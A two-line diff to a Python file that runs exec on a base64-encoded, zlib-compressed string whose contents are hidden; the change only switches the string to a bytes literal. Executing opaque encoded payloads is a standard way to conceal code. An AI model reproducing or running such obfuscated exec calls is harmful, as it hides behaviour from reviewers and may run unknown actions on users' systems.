@@ -1,2 +1,2 @@
 import codecs
-exec(codecs.decode(codecs.decode('eJzLzC3ILypRyC+2BmK94sriktRcDfXMFHVNAINXCRo=', 'base64'), 'zlib'))
+exec(codecs.decode(codecs.decode(b'eJzLzC3ILypRyC+2BmK94sriktRcDfXMFHVNAINXCRo=', 'base64'), 'zlib'))
